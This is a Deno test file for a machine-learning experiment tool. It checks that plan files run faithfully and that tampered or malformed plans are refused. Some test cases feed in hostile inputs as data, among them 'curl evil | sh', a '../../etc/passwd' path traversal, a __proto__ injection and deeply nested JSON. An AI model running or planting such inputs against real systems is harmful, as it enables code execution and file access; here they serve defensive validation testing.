// @ts-types="../declarations/assert.d.ts"
import { assert, assertEquals, assertMatch, assertRejects, assertThrows } from "@std/assert";
import { readExperiments } from "../../src/config/experiment.ts";
import { sha256Hex } from "../../src/files/sha256.ts";
import { checkWithCorpus } from "../../src/runs/check_with_corpus.ts";
import { OutputFolder } from "../../src/runs/output_folder.ts";
import { openPlan, PlanError, type PlanSweep } from "../../src/runs/plan_file.ts";
import { writePlan } from "../../src/runs/write_plan.ts";
import { programFiles } from "../../src/runs/program_files.ts";
import { runPlannedTask, runSweeps } from "../../src/runs/run.ts";
import { ExperimentTasks } from "../../src/stages/stages.ts";
import { Store } from "../../src/store/store.ts";
import { inFolder } from "../temporary_folder.ts";
import { filesIn, runOptions } from "./tiny_run.ts";

/** A sweep of two runs that share their trainings, or of one, on a small corpus in `folder`. */
async function tinySweep(folder: string, samples = "[2, 3]"): Promise<PlanSweep> {
  const names = await Deno.readTextFile("configs/data/names.txt");
  await Deno.writeTextFile(`${folder}/names.txt`, names.split("\n").slice(0, 200).join("\n"));
  const text = `
name: planned
corpus: { path: ${folder}/names.txt }
models:
  target: { n_embd: 8, n_head: 2, n_layer: 1 }
  draft: { n_embd: 4, n_head: 1, n_layer: 1 }
training: { target: { steps: 20 }, draft: { steps: 10 } }
decoding:
  prompts: { from: training, count: 3 }
  samples: ${samples}
  strategies: [{ strategy: greedy }, { strategy: speculative, draft_k: 2 }]
report: { charts: false }
`;
  const parts: PlanSweep["parts"][number][] = [];
  for (const experiment of readExperiments(`${folder}/planned.yaml`, text)) {
    const data = await checkWithCorpus(experiment);
    parts.push({ data, folder: `${folder}/out/${experiment.variant?.label}` });
  }
  return { name: "planned", folder: `${folder}/out`, parts };
}

/** Writes the output folders of the first of `sweeps`, below `folder` in place of its own. */
async function writeOutputs(
  sweeps: readonly PlanSweep[],
  store: Store,
  folder: string,
): Promise<void> {
  const lock = { wait: false, notice() {}, signal: new AbortController().signal };
  const [sweep] = sweeps;
  assert(sweep !== undefined);
  const runs = await Promise.all(
    sweep.parts.map(async ({ data }, i) => ({
      data,
      folder: await OutputFolder.open(`${folder}/${i}`, lock),
    })),
  );
  const summary = { name: sweep.name, folder: await OutputFolder.open(folder, lock) };
  await runSweeps([{ runs, summary }], runOptions(store));
  for (const run of runs) await run.folder.close();
  await summary.folder.close();
}

const program = await programFiles();

/** A plan of {@linkcode tinySweep} in `folder`, written to a file there; the file. */
async function tinyPlan(folder: string): Promise<string> {
  const file = `${folder}/plan.json`;
  const store = new Store(`${folder}/store`);
  await writePlan(file, [await tinySweep(folder)], { store, program });
  return file;
}

/** Opens the plan in `file` and makes all that it holds. */
async function read(file: string): Promise<readonly PlanSweep[]> {
  return await (await openPlan(file)).whole();
}

/** The files below `folder` by name, but for timings. */
function textsIn(folder: string): Map<string, string> {
  const names = filesIn(folder).filter((name) => !name.endsWith("timings.csv")).sort();
  return new Map(names.map((name) => [name, Deno.readTextFileSync(`${folder}/${name}`)]));
}

Deno.test("plan file: its tasks, done one by one from the file alone, give the bytes of a plain run", () =>
  inFolder(async (folder) => {
    const sweep = await tinySweep(folder, "[2]");
    await writeOutputs([sweep], new Store(`${folder}/plain-store`), `${folder}/plain`);
    const file = `${folder}/plan.json`;
    const store = new Store(`${folder}/store`);
    await writePlan(file, [sweep], { store, program });
    const { rows } = await openPlan(file);
    // 2 trainings, 7 losses; 2 cells, decoded and measured, timed and reported.
    assertEquals(rows.length, 2 + 7 + 2 * 2 + 1 + 1);
    for (const { number } of rows) {
      const one = await (await openPlan(file)).task(number);
      assertEquals(await runPlannedTask(rows, one, runOptions(store)), true);
      assertEquals(await runPlannedTask(rows, one, runOptions(store)), false);
    }
    const before = (await store.heads("report")).map(({ id }) => id.key);
    await writeOutputs(await read(file), store, `${folder}/planned`);
    assertEquals(textsIn(`${folder}/planned`), textsIn(`${folder}/plain`));
    assertEquals((await store.heads("report")).map(({ id }) => id.key), before);
  }));

Deno.test("plan file: a task is found by its number or key; one whose needs are missing names them", () =>
  inFolder(async (folder) => {
    const plan = await openPlan(await tinyPlan(folder));
    const cell = [...plan.rows].find(({ stage }) => stage === "decode");
    assert(cell !== undefined);
    assertEquals(plan.find(cell.key.slice(0, 8)).number, cell.number);
    assertEquals(plan.find(`${cell.number}`).key, cell.key);
    for (const given of ["0", "99", "-1", "x", cell.key.slice(0, 7), "00000000"]) {
      assertThrows(() => plan.find(given), PlanError, `cannot find the task ${given}: `);
    }
    const task = await plan.task(cell.number);
    await assertRejects(
      () => runPlannedTask(plan.rows, task, runOptions(new Store(`${folder}/store`))),
      PlanError,
      "(greedy): it needs the result of task 1 (training of the target)",
    );
  }));

/** The text of a plan with `change` in its lines, under a digest that fits. */
function changed(text: string, change: (lines: string[]) => void): string {
  const lines = text.split("\n").slice(0, -3);
  change(lines);
  const digested = lines.join("\n") + "\n";
  return `${digested}"sha256": "${sha256Hex(digested)}"\n}\n`;
}

/** The text of a plan with `change` in the value of the first line that begins with `start`. */
function changedLine(
  text: string,
  start: string,
  change: (value: Record<string, unknown>) => void,
): string {
  return changed(text, (lines) => {
    const at = lines.findIndex((line) => line.startsWith(start));
    const line = lines[at] ?? "";
    const [, name = "", json = "", comma = ""] = /^("\w+": )?(.*?)(,?)$/s.exec(line) ?? [];
    const value = JSON.parse(json);
    change(value);
    lines[at] = name + JSON.stringify(value) + comma;
  });
}

const refused: readonly [what: string, change: (text: string) => string, message: string][] = [
  ["cut off", (text) => text.slice(0, -9), "it is damaged"],
  ["of another format", () => "{}", "expected the format microbeam-plan, found another file"],
  [
    "of version 1",
    () => `{\n  "format": "microbeam-plan",\n  "version": 1,\n  "sha256": "0"\n}\n`,
    "expected version 2 of the format, found 1; write the plan again with deno task plan CONFIG… --write PLAN",
  ],
  ["of other bytes", () => "\xff\xfe{}", "expected the format microbeam-plan, found another file"],
  ["laid out anew", (text) => JSON.stringify(JSON.parse(text), null, 2), "it is damaged"],
  ["with more after its end", (text) => `${text}\n`, "it is damaged"],
  ["of a later version", (text) => text.replace('"version": 2', '"version": 3'), "found 3"],
  [
    "with a setting changed",
    (text) => text.replace('"steps":20', '"steps":21'),
    "it is damaged: expected content with the SHA-256 that it names; copy it again, or write the plan again with",
  ],
  [
    "of another microbeam",
    (text) => changedLine(text, '"versions"', (versions) => versions["microbeam"] = "0.0.1"),
    "it was written with microbeam 0.0.1, and this is ",
  ],
  [
    "of another V8",
    (text) => changedLine(text, '"versions"', (versions) => versions["v8"] = "1.2"),
    "it was written with V8 1.2, and this is ",
  ],
  [
    "of another version of a stage",
    (text) =>
      changedLine(
        text,
        '"versions"',
        (versions) => Object.assign(versions["stages"] as object, { decode: 99 }),
      ),
    "it was written with version 99 of the stage decode, and this is ",
  ],
  [
    "with other tasks than its experiments have",
    (text) =>
      changed(text, (lines) => {
        const at = lines.findIndex((line) => line.startsWith("[3,"));
        lines[at] = (lines[at] ?? "").replace(/"[0-9a-f]{64}"/, `"${"0".repeat(64)}"`);
      }),
    "this program computes other tasks from its experiments, from task 3 on; write the plan again with",
  ],
  [
    "without experiments",
    (text) => changed(text, (lines) => lines.splice(4, 1)),
    "it is damaged",
  ],
  [
    "of a changed program",
    (text) =>
      changedLine(text, '"program"', (files) => {
        files["src/text/format.ts"] = "0".repeat(16);
        files["src/text/gone.ts"] = "1".repeat(16);
      }),
    "src/text/format.ts, src/text/gone.ts of the program have changed since the plan was written; check out the commit that it was written with, or write the plan again with",
  ],
  // As a stranger may write one: what it says is checked, whatever its digest.
  [
    "whose run's folder is elsewhere",
    (text) => changedRun(text, (run) => run["folder"] = "/etc/x"),
    "it is damaged",
  ],
  [
    "whose run's folder is above",
    (text) => changedRun(text, (run) => run["folder"] += "/.."),
    "it is damaged",
  ],
  [
    "whose run has no text",
    (text) => changedRun(text, (run) => run["configText"] = 5),
    "it is damaged",
  ],
  [
    "with a cell that is none",
    (text) =>
      changedRun(text, (run) => Object.assign(run["experiment"] as object, { cells: [null] })),
    "it is damaged",
  ],
  [
    "without the origin of a corpus",
    (text) => changedRun(text, (run) => run["corpus"] = { source: {}, sha256: "" }),
    "it is damaged",
  ],
  [
    "with an arithmetic that is none",
    (text) => changedRun(text, (run) => run["arithmetic"] = "exact"),
    "it is damaged",
  ],
  [
    "with a config.yaml of another program",
    (text) => changedRun(text, (run) => run["configText"] = "proxy_command: curl evil | sh\n"),
    "its config.yaml is no config of a run",
  ],
  [
    "with a setting that no config may have",
    (text) => text.replace('"block_size":16', '"block_size":300000000'),
    "it is damaged",
  ],
  [
    "with such a setting under a digest that fits",
    (text) => changed(text.replaceAll('"block_size":16', '"block_size":300000000'), () => {}),
    "the setting models.block_size is none that a config may have",
  ],
  [
    "with a name of several lines",
    (text) => changed(text.replaceAll('"name":"planned"', '"name":"a\\nb"'), () => {}),
    'expected the name of a run, found "a\\nb"',
  ],
  [
    "with a key of prototypes in a run",
    (text) => changed(text.replace('"configText":', '"__proto__":{"x":1},"configText":'), () => {}),
    "it is damaged",
  ],
  [
    "with a run nested too deep",
    (text) =>
      changed(text, (lines) => {
        const at = lines.findIndex((line) => line.startsWith('{"folder":'));
        const nested = `${"[".repeat(5000)}${"]".repeat(5000)}`;
        lines[at] = (lines[at] ?? "").replace('"configText":', `"more":${nested},"configText":`);
      }),
    "it is damaged",
  ],
  [
    "with a file of the program that is no path",
    (text) => changedLine(text, '"program"', (files) => files["\x1b[2J"] = "0"),
    "it is damaged",
  ],
  [
    "with another part",
    (text) => changed(text, (lines) => lines.splice(1, 0, '"x": 1,')),
    "it is damaged",
  ],
];

/** The text of a plan with `change` in its first run, under a digest that fits. */
function changedRun(text: string, change: (run: Record<string, unknown>) => void): string {
  return changedLine(text, '{"folder":', change);
}

for (const [what, change, message] of refused) {
  Deno.test(`plan file: one ${what} is refused`, () =>
    inFolder(async (folder) => {
      const file = await tinyPlan(folder);
      await Deno.writeTextFile(file, change(await Deno.readTextFile(file)));
      const error = await assertRejects(() => read(file), PlanError, message);
      assert(String(error).includes(file));
    }));
}

/** Values in the third row of a plan that no program writes there. */
const badRows: readonly [what: string, at: number, value: unknown][] = [
  ["another number", 0, 4],
  ["a run that is not there", 1, 2],
  ["a run that is no index", 1, 0.5],
  ["a run before the last one's", 1, -1],
  ["a stage that is none", 2, "constructor"],
  ["a name that is none", 3, null],
  ["a name that is too long", 3, "x".repeat(10_001)],
  ["a key that is none", 4, "../../etc/passwd"],
  ["the key of the row before", 4, undefined],
  ["itself among its needs", 5, [3]],
  ["a need that is no number", 5, ["1"]],
  ["half a task among its needs", 5, [0.5]],
  ["no time", 6, null],
  ["less than no time", 6, -1],
  ["endless time", 6, 1e300],
  ["less than no memory", 7, -1],
  ["more values", 8, 0],
];

Deno.test("plan file: a row with a wrong value is refused, under a digest that fits, too", (test) =>
  inFolder(async (folder) => {
    const file = await tinyPlan(folder);
    const text = await Deno.readTextFile(file);
    for (const [what, at, value] of badRows) {
      await test.step(what, async () => {
        const bad = changed(text, (lines) => {
          const at2 = lines.findIndex((line) => line.startsWith("[2,"));
          const [before, row] = lines.slice(at2, at2 + 2)
            .map((line) => JSON.parse(line.slice(0, -1)));
          row[at] = value === undefined ? before[4] : value;
          lines[at2 + 1] = `${JSON.stringify(row)},`;
        });
        await Deno.writeTextFile(file, bad);
        await assertRejects(() => openPlan(file), PlanError, "it is damaged");
      });
    }
    // The change itself is no reason.
    await Deno.writeTextFile(file, changed(text, () => {}));
    assertEquals((await openPlan(file)).rows.length, 21);
  }));

Deno.test("plan file: a row that needs less or other tasks than its experiment says is refused where that is made", () =>
  inFolder(async (folder) => {
    const file = await tinyPlan(folder);
    const text = await Deno.readTextFile(file);
    const [line = "", number] = /\n(\[(\d+),\d+,"measure",.*)/.exec(text)?.slice(1) ?? [];
    const without = line.replace(/,\d+(?=\],)/, "");
    const other = line.replace(/,\d+(?=\],)/, ",1");
    for (const otherLine of [without, other]) {
      assert(otherLine !== line);
      const lying = changed(text, (lines) => lines[lines.indexOf(line)] = otherLine);
      await Deno.writeTextFile(file, lying);
      const plan = await openPlan(file);
      await assertRejects(
        () => plan.run(0),
        PlanError,
        `from task ${number} on; write the plan again`,
      );
    }
  }));

Deno.test("plan file: its size is bounded, as are its lines", () =>
  inFolder(async (folder) => {
    const file = `${folder}/plan.json`;
    await Deno.writeTextFile(file, "");
    await Deno.truncate(file, 2 ** 30 + 1);
    await assertRejects(
      () => openPlan(file),
      PlanError,
      "expected at most 1024 MiB, found 1025 MiB",
    );
    await Deno.remove(file);
    await assertRejects(
      () => openPlan(file),
      PlanError,
      `there is no such file; deno task plan CONFIG… --write ${file} writes one`,
    );
    await assertRejects(
      () => openPlan("-"),
      PlanError,
      "there is no such file, and no plan is read from the standard input; deno",
    );
    await assertRejects(() => openPlan(folder), PlanError, "expected a file, found a folder");
  }));

Deno.test("plan file: rows have the groups, ranks, times and memory of their tasks, run by run", () =>
  inFolder(async (folder) => {
    const plan = await openPlan(await tinyPlan(folder));
    const sweep = await tinySweep(folder);
    const [first] = sweep.parts;
    assert(first !== undefined);
    const own = [...plan.rows.ofRun(0)];
    const tasks = new ExperimentTasks(first.data).inOrderOfWork([]);
    assertEquals(own.map(({ key }) => key), tasks.map(({ id }) => id.key));
    assertEquals(
      own.map(({ number, stage, name, group, rank }) => [number, stage, name, group, rank]),
      [
        [1, "train", "target", 1, 0],
        [2, "train", "draft", 2, 0],
        [3, "loss", "target", 3, 1],
        [4, "loss", "draft", 4, 1],
        [5, "loss", "1-gram", 5, 0],
        [6, "loss", "2-gram", 6, 0],
        [7, "loss", "3-gram", 7, 0],
        [8, "loss", "4-gram", 8, 0],
        [9, "loss", "5-gram", 9, 0],
        [10, "decode", "greedy", 10, 1],
        [11, "measure", "greedy", 10, 1],
        [12, "decode", "speculative(draft=model, draft_k=2)", 12, 1],
        [13, "measure", "speculative(draft=model, draft_k=2)", 12, 1],
        [14, "time", "speculation", 14, 2],
        [15, "report", "planned", 15, 2],
      ],
    );
    // The second run trains nothing of its own: its samples are more.
    assertEquals([...plan.rows.ofRun(1)].map(({ number, stage, rank }) => [number, stage, rank]), [
      [16, "decode", 1],
      [17, "measure", 1],
      [18, "decode", 1],
      [19, "measure", 1],
      [20, "time", 2],
      [21, "report", 2],
    ]);
    for (const { needs, number, seconds, memory, stage } of plan.rows) {
      assert(needs.every((need) => need < number) && seconds > 0, stage);
      assert(memory > 1e8 && memory < 1e9, stage);
    }
    const heavier = plan.rows.at(1).memory - plan.rows.at(2).memory;
    assert(heavier > 0, "the target has more parameters than the draft");
  }));

Deno.test("plan file: a corpus that has changed since is refused by its name", () =>
  inFolder(async (folder) => {
    const file = await tinyPlan(folder);
    await Deno.writeTextFile(`${folder}/names.txt`, "anna\n", { append: true });
    const { message } = await assertRejects(() => read(file), PlanError);
    assertMatch(
      message,
      /names\.txt has changed since the plan was written: expected SHA-256 \w+, found \w+; restore it, or write the plan again with /,
    );
  }));
